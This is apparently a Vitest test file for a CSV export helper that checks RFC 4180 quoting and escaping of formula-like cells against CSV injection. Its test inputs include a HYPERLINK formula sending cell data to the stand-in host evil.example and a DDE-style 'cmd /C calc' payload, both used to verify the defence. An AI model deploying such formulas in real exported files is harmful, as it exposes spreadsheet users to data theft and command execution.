import { describe, expect, it } from "vitest";
import { csvCell, isFormulaLike, spreadsheetText } from "./csv";

describe("csvCell", () => {
  it("writes RFC 4180 cells: empty for null, quoted with a comma, a quote or a line break", () => {
    expect([null, undefined, "", "a", 1.5, true].map(csvCell)).toEqual(["", "", "", "a", "1.5", "true"]);
    expect(csvCell('say "hi", twice')).toBe('"say ""hi"", twice"');
    expect(csvCell("two\nlines")).toBe('"two\nlines"');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
  });

  // OWASP CSV injection: what a spreadsheet would run as a formula is written as text.
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`],
    ["=1+2", "'=1+2"],
    ["+1+1", "'+1+1"],
    ["-cmd", "'-cmd"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\tleading tab", "'\tleading tab"],
    ["\r=1+1", `"'\r=1+1"`],
    ["-", "'-"],
    ["+", "'+"],
    ["-Infinity", "'-Infinity"],
    ["-0x1F", "'-0x1F"],
    ["-5 ", "'-5 "],
    ["- 5", "'- 5"],
    ["-1,000", `"'-1,000"`],
  ])("escapes %j", (text, cell) => {
    expect(isFormulaLike(text)).toBe(true);
    expect(csvCell(text)).toBe(cell);
  });

  it("leaves numbers, numeric text and harmless text as they are", () => {
    for (const n of [-5, -1.5e3, -0, 1e-7, -Infinity, Number.NaN]) expect(csvCell(n)).toBe(String(n));
    for (const text of ["-5", "+5", "-1.5e3", "-1.5E+3", "+.5", "-5.", "-0", "1e-7", "5", "a=1", " =1", "'=1", "x-y", "", "é"]) {
      expect(isFormulaLike(text), text).toBe(false);
      expect(spreadsheetText(text)).toBe(text);
    }
    expect(csvCell(false)).toBe("false");
  });
});
